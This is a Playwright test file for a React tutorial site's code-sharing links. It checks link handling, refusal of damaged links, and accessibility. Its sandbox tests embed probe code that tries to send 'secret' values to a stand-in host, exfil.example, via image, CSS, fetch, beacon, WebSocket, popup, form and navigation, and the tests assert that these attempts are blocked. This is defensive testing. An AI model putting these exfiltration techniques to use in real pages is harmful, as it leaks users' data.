import { readFileSync } from "node:fs";
import type { Locator, Page } from "@playwright/test";
import { makeShareLink } from "../src/lib/share-link";
import {
  chooseSection,
  expect,
  expectNoA11yViolations,
  frameWidgetScope,
  openSection,
  readClipboard,
  switchColorScheme,
  test,
} from "./fixtures";

// The editor's language workers are the business of playground-language.spec.ts (fixtures.ts).
test.use({ languageService: false });

/**
 * Code shared as a link: "Copy link" in Edit and in a challenge, the link opening the
 * lesson with the code held in its editor until Run, and the sandbox that code then runs in
 * sending nothing anywhere.
 */

const counterSource = readFileSync(
  new URL("../src/demos/counter-demo.tsx", import.meta.url),
  "utf8",
);
const editedCounter = counterSource.replace("Count:", "Clicks so far:");

function counterBox(page: Page) {
  return page.getByRole("region", { name: "Example: Counter" });
}

async function replaceCode(page: Page, editor: Locator, code: string) {
  await editor.click();
  await page.keyboard.press("ControlOrMeta+a");
  await page.keyboard.insertText(code);
}

/** Every request the page and its frames make from now on. */
function recordRequests(page: Page) {
  const urls: string[] = [];
  page.on("request", (request) => urls.push(request.url()));
  return urls;
}

/**
 * The requests to another site that got further than the browser's own refusal. Chromium lists
 * a request its policy refused too (DevTools shows it as "(blocked:csp)"), failed before it was
 * sent ("csp", or ERR_BLOCKED_BY_CSP); any other outcome (here, with no host resolving, a name
 * not resolved) means it left the page.
 */
function recordEscapes(page: Page) {
  const escaped: string[] = [];
  page.on("requestfinished", (request) => {
    if (request.url().includes("exfil.example")) escaped.push(`${request.url()}: sent`);
  });
  page.on("requestfailed", (request) => {
    const error = request.failure()?.errorText;
    const refused = error === "csp" || error === "net::ERR_BLOCKED_BY_CSP";
    if (request.url().includes("exfil.example") && !refused)
      escaped.push(`${request.url()}: ${error}`);
  });
  return escaped;
}

/** Leaving a page with unsaved work asks first; these tests mean to leave. */
function acceptLeaving(page: Page) {
  page.on("dialog", (dialog) => void dialog.accept());
}

async function copyLink(page: Page, scope: Locator) {
  await scope.getByRole("button", { name: "Copy link to this code" }).click();
  await expect(scope.getByRole("status").filter({ hasText: "Link copied" })).toBeAttached();
  return readClipboard(page);
}

test("a copied link opens the lesson with the code in Edit, runs nothing until Run, and fetches only the page's own files", async ({
  page,
  baseURL,
}) => {
  test.setTimeout(90_000);
  await openSection(page, "core-concepts");
  const box = counterBox(page);
  await box.getByRole("tab", { name: "Edit" }).click();
  await replaceCode(page, box.getByRole("textbox", { name: "Edit Counter code" }), editedCounter);
  const link = await copyLink(page, box);
  expect(link.startsWith(`${baseURL}/?section=core-concepts#share=1&demo=counter-demo&code=`)).toBe(
    true,
  );

  acceptLeaving(page);
  // Another lesson first: the link must bring its own.
  await openSection(page, "hooks");
  const requests = recordRequests(page);
  await page.goto(link);
  const notice = page.getByRole("group", { name: "Code from a link" });
  await expect(notice).toBeFocused({ timeout: 20_000 });
  await expect(page.locator("article[data-lesson] h1")).toHaveText("Core Concepts");
  // Read once, and dropped from the address: a reload would not bring it back.
  expect(page.url()).toBe(`${baseURL}/?section=core-concepts`);
  await expect(box.getByRole("tab", { name: "Edit" })).toHaveAttribute("aria-selected", "true");
  await expect(box.getByRole("textbox", { name: "Edit Counter code" })).toContainText(
    "Clicks so far:",
  );
  // Nothing ran: no runner page was even asked for.
  await page.waitForTimeout(500);
  expect(requests.filter((url) => url.includes("playground"))).toEqual([]);
  await expect(box.locator("iframe")).toHaveCount(0);
  await expectNoA11yViolations(page, "a link's code, held", "[data-slot=edit-panel]");

  await notice.getByRole("button", { name: "Run" }).click();
  await expect(box.frameLocator("iframe").getByText("Clicks so far:")).toBeVisible({
    timeout: 20_000,
  });
  await expect(notice).toHaveCount(0);
  const origin = new URL(baseURL!).origin;
  expect(requests.filter((url) => !url.startsWith(`${origin}/`))).toEqual([]);
  expect(requests.some((url) => url.includes("#"))).toBe(false);
});

test("a challenge's link opens it with the code, held until Check or Run", async ({ page }) => {
  test.setTimeout(90_000);
  await openSection(page, "core-concepts");
  const challenge = page.locator("[data-slot=challenge]").first();
  await challenge.getByRole("button", { name: "Start challenge" }).click();
  await challenge.getByRole("button", { name: "Show solution" }).click();
  await challenge.getByRole("button", { name: "Load solution into the editor" }).click();
  const link = await copyLink(page, challenge);
  expect(link).toContain("#share=1&challenge=core-concepts/add-three&code=");

  acceptLeaving(page);
  await openSection(page, "introduction");
  await page.goto(link);
  const notice = challenge.getByRole("group", { name: "Code from a link" });
  await expect(notice).toBeFocused({ timeout: 20_000 });
  await expect(challenge.locator("iframe")).toHaveCount(0);
  await challenge.getByRole("button", { name: "Check" }).click();
  await expect(challenge.locator("[data-slot=check-results]")).toContainText(
    /All \d+ checks passed/,
    { timeout: 20_000 },
  );
  await expect(notice).toHaveCount(0);
});

test("a link opened in a tab already on the guide shows its lesson, asking before the reader's own code goes", async ({
  page,
  baseURL,
}) => {
  test.setTimeout(60_000);
  await openSection(page, "core-concepts");
  const box = counterBox(page);
  await box.getByRole("tab", { name: "Edit" }).click();
  const editor = box.getByRole("textbox", { name: "Edit Counter code" });
  await replaceCode(page, editor, editedCounter);
  // The reader moves on; the address stays the Core Concepts one (switching never changes it).
  await chooseSection(page, "React Hooks");
  const shared = counterSource.replace("Count:", "Shared count:");
  const link = await makeShareLink(
    `${baseURL}/`,
    "core-concepts",
    { kind: "demo", file: "src/demos/counter-demo.tsx" },
    shared,
  );
  if (!link.ok) throw new Error("too long");
  // Only the fragment differs from the address: the page does not load again.
  await page.goto(link.url);
  const ask = page.getByRole("dialog", { name: "Replace your code with the link's?" });
  await expect(ask).toContainText("src/demos/counter-demo.tsx");
  await expectNoA11yViolations(page, "the link-replace dialog", "[role=dialog]");
  await ask.getByRole("button", { name: "Use the link's code" }).click();
  await expect(page.locator("article[data-lesson] h1")).toHaveText("Core Concepts");
  await expect(page.getByRole("group", { name: "Code from a link" })).toBeFocused({
    timeout: 20_000,
  });
  await expect(editor).toContainText("Shared count:");
  expect(page.url()).toBe(`${baseURL}/?section=core-concepts`);
});

test("code too long for a link says so and offers the file instead", async ({ page }) => {
  await openSection(page, "core-concepts");
  const box = counterBox(page);
  await box.getByRole("tab", { name: "Edit" }).click();
  // Text that does not compress: a comment of varied characters.
  const noise = Array.from({ length: 9000 }, (_, n) =>
    String.fromCharCode(0x4e00 + ((n * 7919) % 20000)),
  ).join("");
  await replaceCode(
    page,
    box.getByRole("textbox", { name: "Edit Counter code" }),
    `// ${noise}\n${counterSource}`,
  );
  await box.getByRole("button", { name: "Copy link to this code" }).click();
  await expect(box.getByRole("alert")).toContainText(
    /This code is too long to share as a link: the link would be [\d,]+ characters, and links stay under 8,000/,
  );
  await expectNoA11yViolations(page, "the too-long message", "[data-slot=copy-link-problem]");
  const download = page.waitForEvent("download");
  await box.getByRole("button", { name: "Save my work" }).click();
  expect((await download).suggestedFilename()).toBe("react-guide-work.json");
  await expect(box.getByText("Saved react-guide-work.json (see your downloads).")).toBeVisible();
  await page.keyboard.press("Escape");
  await expect(box.locator("[data-slot=copy-link-problem]")).toHaveCount(0);
});

test("a damaged link, or one for an example the lesson no longer has, is refused with the code shown", async ({
  page,
  baseURL,
}) => {
  await page.goto("/?section=core-concepts#share=1&demo=counter-demo&code=AAAA");
  const damaged = page.getByRole("dialog", { name: "The link's code was not opened" });
  await expect(damaged).toContainText("This link's code is damaged");
  expect(page.url()).toBe(`${baseURL}/?section=core-concepts`);
  await damaged.getByRole("button", { name: "Close" }).click();
  await expect(counterBox(page).getByRole("tab", { name: "Live Preview" })).toHaveAttribute(
    "aria-selected",
    "true",
  );

  const elsewhere = await makeShareLink(
    `${baseURL}/`,
    "hooks",
    { kind: "demo", file: "src/demos/counter-demo.tsx" },
    "export function CounterDemo() { return null; }",
  );
  if (!elsewhere.ok) throw new Error("too long");
  await page.goto(elsewhere.url);
  const refused = page.getByRole("dialog", { name: "The link's code was not opened" });
  await expect(refused).toContainText("not in this guide's lesson any more");
  await refused.getByText("show its code").click();
  await expect(refused.getByLabel("Code for src/demos/counter-demo.tsx")).toHaveText(
    "export function CounterDemo() { return null; }",
  );
  await expectNoA11yViolations(page, "the refused link's dialog", "[role=dialog]");
});

/**
 * What a link's code could try in order to send the reader's data out. The runner's policy
 * (pipeline/security-headers.ts) and the frame's sandbox must stop each before a request leaves.
 */
const OUT = "http://exfil.example";
const sendingProbe = `import { useEffect, useState } from "react";

export function CounterDemo() {
  const [lines, setLines] = useState<string[]>([]);
  useEffect(() => {
    const note = (line: string) => setLines((all) => [...all, line]);
    document.addEventListener("securitypolicyviolation", (event) =>
      note("policy: " + event.effectiveDirective),
    );
    const image = new Image();
    image.src = "${OUT}/pixel.png?secret=image";
    document.body.style.backgroundImage = "url(${OUT}/background.png?secret=css)";
    fetch("${OUT}/collect?secret=fetch", { method: "POST", body: "secret" }).then(
      () => note("fetch: sent"),
      () => note("fetch: failed"),
    );
    try {
      navigator.sendBeacon("${OUT}/beacon?secret=beacon", "secret");
    } catch {
      note("beacon: threw");
    }
    try {
      new WebSocket("ws://exfil.example/socket?secret=socket");
    } catch {
      note("socket: threw");
    }
    note("popup: " + (window.open("${OUT}/popup?secret=popup") === null ? "refused" : "opened"));
  }, []);
  return (
    <ul aria-label="Probe">
      {lines.map((line, index) => (
        <li key={index}>{line}</li>
      ))}
    </ul>
  );
}
`;

/** Code that leaves the page in `how` (a form submission, a navigation), once its effect runs. */
const leavingProbe = (how: string) => `import { useEffect } from "react";

export function CounterDemo() {
  useEffect(() => {
    ${how}
  }, []);
  return <p>Leaving</p>;
}
`;
const leaving = {
  form: `const form = document.createElement("form");
    form.method = "post";
    form.action = "${OUT}/form?secret=form";
    form.append(Object.assign(document.createElement("input"), { name: "secret", value: "form" }));
    document.body.append(form);
    form.submit();`,
  navigation: `location.href = "${OUT}/page?secret=navigation";`,
};

/** Opens a link with `code` in the Counter example and runs it. */
async function runFromLink(page: Page, baseURL: string | undefined, code: string) {
  const link = await makeShareLink(
    `${baseURL}/`,
    "core-concepts",
    { kind: "demo", file: "src/demos/counter-demo.tsx" },
    code,
  );
  if (!link.ok) throw new Error("too long");
  await page.goto(link.url);
  await page
    .getByRole("group", { name: "Code from a link" })
    .getByRole("button", { name: "Run" })
    .click();
  return counterBox(page);
}

test.describe("the sandbox a link's code runs in @desktop", () => {
  test("stops an image, CSS, fetch, beacon, socket and popup from sending data out", async ({
    page,
    baseURL,
    consoleErrors,
  }) => {
    // The browser reports each request the policies refuse.
    consoleErrors.allow(/Content Security Policy|Refused to|Failed to fetch|ERR_|Blocked/);
    const escaped = recordEscapes(page);
    const box = await runFromLink(page, baseURL, sendingProbe);
    const probe = box.frameLocator("iframe").getByRole("list", { name: "Probe" });
    await expect(probe).toContainText("policy: img-src", { timeout: 20_000 });
    await expect(probe).toContainText("policy: connect-src");
    await expect(probe).toContainText("fetch: failed");
    await expect(probe).toContainText("popup: refused");
    await page.waitForTimeout(1000);
    expect(escaped).toEqual([]);
  });

  const refusals = {
    form: /Sending form data to 'http:\/\/exfil\.example\/form\?secret=form' violates the following Content Security Policy directive: "form-action 'none'"/,
    navigation:
      /Framing 'http:\/\/exfil\.example\/' violates the following Content Security Policy directive: "frame-src 'self'"/,
  };
  for (const how of ["form", "navigation"] as const)
    test(`keeps a ${how} from sending data to another site`, async ({
      page,
      baseURL,
      consoleErrors,
    }) => {
      consoleErrors.allow(/Content Security Policy|Refused to|ERR_|Blocked/);
      const messages: string[] = [];
      page.on("console", (message) => messages.push(message.text()));
      const escaped = recordEscapes(page);
      const box = await runFromLink(page, baseURL, leavingProbe(leaving[how]));
      // The browser refuses it (the runner's form-action, the guide's frame-src), and says so.
      await expect
        .poll(() => messages.filter((text) => refusals[how].test(text)).length, { timeout: 20_000 })
        .toBeGreaterThan(0);
      // The runner takes the attempt for its page leaving, starts again, and stops the second time.
      await expect(box.getByRole("alert")).toContainText(
        "Your code loads another page every time it runs",
        { timeout: 20_000 },
      );
      expect(escaped).toEqual([]);
    });
});

test("a held link's notice and Copy link are clean in axe, light and dark", async ({
  page,
  baseURL,
}) => {
  const link = await makeShareLink(
    `${baseURL}/`,
    "core-concepts",
    { kind: "demo", file: "src/demos/counter-demo.tsx" },
    editedCounter,
  );
  if (!link.ok) throw new Error("too long");
  await page.goto(link.url);
  await expect(page.getByRole("group", { name: "Code from a link" })).toBeVisible({
    timeout: 20_000,
  });
  await expectNoA11yViolations(
    page,
    "held link, light",
    "[data-slot=edit-panel]",
    frameWidgetScope(),
  );
  await switchColorScheme(page, "dark");
  await expectNoA11yViolations(
    page,
    "held link, dark",
    "[data-slot=edit-panel]",
    frameWidgetScope("dark"),
  );
});
